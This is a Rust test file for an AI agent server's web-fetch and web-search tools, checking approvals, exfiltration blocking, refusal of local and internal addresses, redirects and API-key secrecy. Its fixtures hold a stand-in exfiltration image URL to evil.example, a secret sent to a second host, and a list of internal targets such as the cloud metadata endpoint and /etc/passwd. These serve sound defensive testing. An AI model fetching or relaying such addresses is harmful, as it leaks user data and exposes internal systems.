//! What the tools reach of the web, and what a page can do to the server.

use serde_json::{Value, json};
use switchboard_tests::{Reply, ServerOptions, TestClient, TestServer, WebServer, page, redirect, request};

const NOTES: &str = "<!doctype html><title>Notes</title><h1>Plan</h1><p>The launch is on <b>Friday</b>.</p>\
                     <p><img src='http://evil.example/?q=stolen' alt='a cat'></p><script>steal()</script>";

async fn fetching(web: &WebServer, approve: &str) -> TestServer {
    let options = ServerOptions::with(&["--approve", approve, "--web-allow-local", &web.address()]);
    TestServer::start_with(options).await
}

async fn call(client: &mut TestClient, url: &str) -> Value {
    let id = format!("fetch {url}");
    client.send(json!({"type": "call-tool", "callId": id, "tool": "web_fetch", "arguments": {"url": url}})).await;
    client.until("the call's end", |frame| frame["type"] == "tool-call-end" && frame["callId"] == id.as_str()).await
}

/// What stands at an address, for somebody without a guard.
async fn unguarded(web: &WebServer, path: &str) -> Reply {
    request(&web.address(), "GET", path, &[], b"").await
}

#[tokio::test]
async fn a_page_of_a_listed_host_is_fetched_and_told() {
    let web = WebServer::start(|_| page("text/html", NOTES)).await;
    let server = fetching(&web, "auto").await;
    let mut client = server.connect().await;

    let turn = client.ask(&format!("Summarise {}", web.url("/notes"))).await.answered().says("Friday").says("Notes");

    assert_eq!((turn.tools(), turn.stored()), (vec!["web_fetch"], vec!["web_page"]));
    assert!(!turn.text().contains("steal()"));
}

#[tokio::test]
async fn h02_a_fetch_shows_its_whole_address_before_it_is_made() {
    let web = WebServer::start(|_| page("text/plain", "reached")).await;
    let server = fetching(&web, "ask").await;
    let mut client = server.connect().await;
    let address = web.url("/collect?what=the-whole-of-it");
    let turn = client.post(&format!("Fetch {address}")).await;

    let asked = client.until_type("approval-request").await;
    let before = web.requests();
    client.send(json!({"type": "approve-tool", "callId": asked["callId"], "decision": "deny"})).await;
    client.end_of(&turn).await.failed("tool-failed");

    assert_eq!((&asked["risk"], &asked["arguments"]["url"]), (&json!("network"), &json!(address)));
    assert_eq!((before, web.requests()), (Vec::<String>::new(), Vec::new()));
    // Baseline: nothing else stands before it.
    assert_eq!(unguarded(&web, "/collect").await.text(), "reached");
}

#[tokio::test]
async fn h02_leave_to_fetch_from_one_host_is_no_leave_to_send_to_another() {
    let (ours, evil) = (
        WebServer::start(|_| page("text/plain", "ours")).await,
        WebServer::start(|_| page("text/plain", "evil")).await,
    );
    let listed = format!("{},{}", ours.address(), evil.address());
    let server = TestServer::start_with(ServerOptions::with(&["--web-allow-local", &listed])).await;
    let mut client = server.connect().await;
    // Baseline: nothing but the question stands before the other host.
    assert_eq!(unguarded(&evil, "/baseline").await.text(), "evil");
    let allowed = client.post(&format!("Fetch {}", ours.url("/one"))).await;
    let asked = client.until_type("approval-request").await;
    client.send(json!({"type": "approve-tool", "callId": asked["callId"], "decision": "allow-session"})).await;
    client.end_of(&allowed).await.answered();

    let again = client.ask(&format!("Fetch {}", ours.url("/two?q=more"))).await.answered();
    let other = client.post(&format!("Fetch {}", evil.url("/?q=the-secret"))).await;
    let asked_again =
        client.until("the other question", |f| f["type"] == "approval-request" && f["callId"] != asked["callId"]).await;
    client.send(json!({"type": "approve-tool", "callId": asked_again["callId"], "decision": "deny"})).await;
    client.end_of(&other).await.failed("tool-failed");

    let covers = format!("every call of web_fetch within http://{} in this session", ours.address());
    assert_eq!(asked["covers"], covers.as_str());
    assert!(again.all("approval-request").is_empty());
    assert_eq!((ours.requests().len(), evil.requests().len()), (2, 1), "only the baseline reached the other host");
}

#[tokio::test]
async fn h02_a_picture_of_a_page_is_words() {
    let web = WebServer::start(|_| page("text/html", NOTES)).await;
    let server = fetching(&web, "auto").await;
    let mut client = server.connect().await;

    let turn = client.ask(&format!("Fetch {}", web.url("/"))).await.answered().says("(image: a cat)");

    // Baseline: the page itself has the picture.
    assert!(unguarded(&web, "/").await.text().contains("evil.example"));
    assert!(!turn.frames.iter().any(|frame| frame.to_string().contains("evil.example")));
}

#[tokio::test]
async fn g24_the_own_network_is_refused_whatever_it_is_called() {
    let web = WebServer::start(|_| page("text/plain", "secret")).await;
    let port = web.port();
    let server = TestServer::start().await;
    let mut client = server.connect().await;

    for host in [
        "127.0.0.1",
        "0.0.0.0",
        "[::]",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0x7f.1",
        "017700000001",
        "localhost",
        "a@127.0.0.1",
    ] {
        let end = call(&mut client, &format!("http://{host}:{port}/")).await;
        assert_eq!(end["errorType"], "security_error", "{host}: {end:#}");
    }
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/",
        "http://100.64.0.1/",
        "http://[fd00::1]/",
        "http://[fe80::1]/",
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
        "unix:/run/docker.sock",
        "http://example.com:22/",
    ] {
        let end = call(&mut client, url).await;
        assert_eq!((&end["errorType"], &end["started"]), (&json!("security_error"), &json!(false)), "{url}: {end:#}");
    }

    assert_eq!(web.requests(), Vec::<String>::new());
    // Baseline: whoever does not look at the address gets it.
    assert_eq!(unguarded(&web, "/").await.text(), "secret");
}

#[tokio::test]
async fn g24_a_redirect_does_not_lead_there_either() {
    let secret = WebServer::start(|_| page("text/plain", "secret")).await;
    let target = secret.url("/");
    let web = WebServer::start(move |path| if path == "/hop" { redirect(&target) } else { redirect("/hop") }).await;
    let server = fetching(&web, "auto").await;
    let mut client = server.connect().await;

    let end = call(&mut client, &web.url("/start")).await;

    assert_eq!(end["errorType"], "security_error", "{end:#}");
    assert_eq!((web.requests().len(), secret.requests().len()), (2, 0));
    // Baseline: whoever follows gets there.
    assert_eq!(unguarded(&web, "/hop").await.header("location"), Some(secret.url("/").as_str()));
    assert_eq!(unguarded(&secret, "/").await.text(), "secret");
}

#[tokio::test]
async fn g24_a_page_nested_without_end_ends_only_its_worker() {
    let deep = format!("<title>Deep</title>{}the bottom", "<div><b>".repeat(300_000));
    let served = deep.clone();
    let web = WebServer::start(move |_| page("text/html", served.clone())).await;
    let server = fetching(&web, "auto").await;
    let mut client = server.connect().await;

    let end = call(&mut client, &web.url("/")).await;

    // Baseline: its depth is far beyond what a thread's stack holds, and all of it is sent.
    assert_eq!(unguarded(&web, "/").await.body.len(), deep.len());
    assert_eq!(end["success"], true, "{end:#}");
    assert!(end["preview"].to_string().contains("only its text"), "{end:#}");
    client.ask("Calculate 6 * 7").await.answered().says("42");
}

#[tokio::test]
async fn a_search_without_a_service_says_how_to_get_one() {
    let server = TestServer::start().await;
    server.file("notes.txt", "rust");
    let mut client = server.connect().await;

    let turn = client.ask("Search the web for rust").await;

    assert_eq!((turn.end["type"].as_str(), &turn.end["complete"]), (Some("agent-response"), &json!(false)));
    assert!(turn.tools().is_empty() && turn.text().contains("--web-search"), "{}", turn.text());
}

#[tokio::test]
async fn a_service_is_asked_and_its_key_shown_to_nobody_else() {
    let key = "key-that-nobody-else-sees";
    let found = json!({"web": {"results": [
        {"title": "The Book", "url": "https://doc.rust-lang.org/book/", "description": "Learn <strong>Rust</strong>"},
    ]}});
    let web = WebServer::start(move |_| page("application/json", found.to_string())).await;
    let arguments = ["--approve", "auto", "--web-search", "brave", "--web-search-url", &web.url("/"), "--log", "debug"];
    let environment = vec![("SWITCHBOARD_WEB_SEARCH_KEY".to_owned(), key.to_owned())];
    let server = TestServer::start_with(ServerOptions { environment, ..ServerOptions::with(&arguments) }).await;
    let mut client = server.connect().await;

    let turn = client.ask("Search the web for rust book").await.answered().says("doc.rust-lang.org");

    assert_eq!((turn.tools(), turn.stored()), (vec!["web_search"], vec!["search_results"]));
    assert!(web.requests().iter().all(|request| request.starts_with("/res/v1/web/search?q=rust+book&count=5")));
    assert_eq!(web.requests().len(), 1);
    let shown = [server.stderr(), server.stdout(), Value::from(client.frames.clone()).to_string()].concat();
    assert!(!shown.contains(key), "{shown}");
}
